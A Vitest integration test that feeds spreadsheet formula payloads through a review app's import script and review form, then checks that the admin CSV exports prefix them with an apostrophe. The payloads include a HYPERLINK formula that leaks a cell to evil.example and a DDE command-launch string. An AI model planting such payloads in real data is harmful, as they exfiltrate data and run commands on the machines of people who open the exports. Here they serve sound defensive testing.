import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { eq } from 'drizzle-orm';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase, type Database } from '../../db/client.ts';
import { contacts, npsResponses, reviews } from '../../db/schema.ts';
import { createReviewRequest } from '../../src/lib/server/ask/review-requests.ts';
import { npsExportHeader, reviewsExportHeader } from '../../src/lib/server/moderate/export.ts';
import { runScript, signInAdmin, startApp, type RunningApp } from '../helpers/app.ts';

// Customers who type spreadsheet formulas into every field they control, through the real
// import and the real review form; the admin then downloads the exports from the started server.
let app: RunningApp;
let db: Database;
let cookie: string;
beforeAll(async () => {
  app = await startApp();
  db = await openDatabase({ url: app.env.DATABASE_URL! });
  cookie = await signInAdmin(app);
}, 120_000);
afterAll(async () => {
  db?.$client.close();
  await app?.stop();
});

const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
const dde = "=cmd|' /C calc'!A0";

/** Reads CSV as a spreadsheet does: an unquoted LF or CR ends a row, as CRLF does. */
const readLikeASpreadsheet = (text: string) => parse(text, { bom: true, relax_column_count: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];

/** Every cell that a spreadsheet would run as a formula (numbers are numbers, not formulas). */
const formulaCells = (rows: string[][]) => rows.flat().filter((cell) => /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(cell) && !/^[+-]?\d+(\.\d+)?$/.test(cell));

async function download(path: string): Promise<string> {
  const response = await fetch(`${app.url}${path}`, { headers: { Cookie: cookie } });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toContain('text/csv');
  return response.text();
}

describe('CSV exports opened in a spreadsheet', () => {
  it('run no formula from NPS answers imported with one in every column, line breaks included', async () => {
    const file = join(app.directory, 'formulas.csv');
    const answers = [
      ['+sum@example.com', hyperlink, 'en', '9', `Great service\n${dde}`, '2026-06-01T10:00:00Z'],
      ['-2+3@example.com', '@SUM(A1:A9)', 'en', '3', '+1+1\r\n-2+3\r\n@SUM(A1)', '2026-06-02T10:00:00Z'],
      ['plain+tag@example.com', '\uFF1D1+1', 'en', '7', `fine\r${dde}`, '2026-06-03T10:00:00Z'],
    ];
    writeFileSync(file, stringify([npsExportHeader.slice(0, 6), ...answers]));
    const imported = await runScript('import', [file], app.env);
    expect(imported.code, imported.stderr).toBe(0);

    const rows = readLikeASpreadsheet(await download('/admin/export/nps.csv'));
    const answerCount = (await db.select({ id: npsResponses.id }).from(npsResponses)).length;
    expect(rows[0]).toEqual(npsExportHeader);
    expect(rows).toHaveLength(answerCount + 1);
    for (const row of rows) expect(row).toHaveLength(npsExportHeader.length);
    expect(formulaCells(rows)).toEqual([]);

    // Each payload reads as it was stored, after one apostrophe where it would start a formula.
    const stored = await db
      .select({ email: contacts.email, name: contacts.name, comment: npsResponses.comment })
      .from(npsResponses)
      .innerJoin(contacts, eq(contacts.id, npsResponses.contactId));
    const asExported = (value: string | null) => (value && /^[=+\-@\t\r\uFF1D]/.test(value) ? `'${value}` : (value ?? ''));
    for (const email of ['+sum@example.com', '-2+3@example.com', 'plain+tag@example.com']) {
      const answer = stored.find((row) => row.email === email)!;
      expect(answer.comment).toMatch(/[\r\n]/);
      const row = rows.find((cells) => cells[0] === asExported(email));
      expect(row?.slice(0, 5), email).toEqual([asExported(email), asExported(answer.name), 'en', expect.any(String), asExported(answer.comment)]);
    }
    expect(rows.find((cells) => cells[0] === "'+sum@example.com")?.[4]).toBe(`Great service\n${dde}`);
  });

  it('run no formula from a review with one in every field its writer controls', async () => {
    const [contact] = await db.insert(contacts).values({ email: '-reviewer@example.com', name: hyperlink, locale: 'en' }).returning();
    const link = await createReviewRequest(db, { contactId: contact!.id, responseId: null, locale: 'en', lifetimeDays: 30, terms: { audience: 'all', incentive: 'a $10 gift card' } });
    const body = `I liked it a lot\r\n${dde}\r\n+1+1\r\n-2+3\r\n@SUM(A1)\r\n\t=1+1`;
    const form = new FormData();
    form.set('token', link!.token);
    form.set('lang', 'en');
    form.set('rating', '4');
    form.set('body', body);
    form.set('nameDisplay', 'full');
    form.set('role', '@SUM(A1:A9)');
    form.set('company', `+Acme\n${dde}`);
    form.set('consent', 'on');
    const posted = await fetch(`${app.url}/r/${link!.token}?_action=review.submit`, { method: 'POST', body: form, headers: { Origin: app.url }, redirect: 'manual' });
    expect(posted.status).toBe(303);
    const [stored] = await db.select().from(reviews).where(eq(reviews.contactId, contact!.id));
    expect(stored?.body).toContain(`\n${dde}\n`);

    const rows = readLikeASpreadsheet(await download('/admin/export/reviews.csv'));
    const reviewCount = (await db.select({ id: reviews.id }).from(reviews)).length;
    expect(rows[0]).toEqual(reviewsExportHeader);
    expect(rows).toHaveLength(reviewCount + 1);
    for (const row of rows) expect(row).toHaveLength(reviewsExportHeader.length);
    expect(formulaCells(rows)).toEqual([]);

    const row = Object.fromEntries(reviewsExportHeader.map((name, index) => [name, rows.find((cells) => cells[0] === String(stored!.id))?.[index]]));
    expect(row).toMatchObject({
      email: "'-reviewer@example.com",
      name: `'${hyperlink}`,
      role: "'@SUM(A1:A9)",
      company: stored!.company!.startsWith('+') ? `'${stored!.company}` : stored!.company,
      body: stored!.body,
      rating: '4',
    });
  });
});
